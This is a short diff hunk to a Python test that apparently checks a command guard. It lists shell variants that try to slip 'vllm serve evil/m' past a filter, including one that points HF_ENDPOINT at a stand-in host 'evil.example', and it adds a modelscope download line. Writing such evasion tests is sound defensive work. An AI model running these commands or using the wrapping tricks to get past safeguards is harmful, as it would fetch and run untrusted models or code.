@@ -112,6 +112,7 @@ def test_a_whole_environment_from_elsewhere() -> None:
         "if vllm serve evil/m; then :; fi",
         "! vllm serve evil/m",
         "true | vllm serve evil/m",
+        f"modelscope download --model org/m {PIN}",
         "env -S 'vllm serve evil/m'",
         "env HF_ENDPOINT=https://evil.example vllm serve evil/m",
         "case x in x) vllm serve evil/m;; esac",
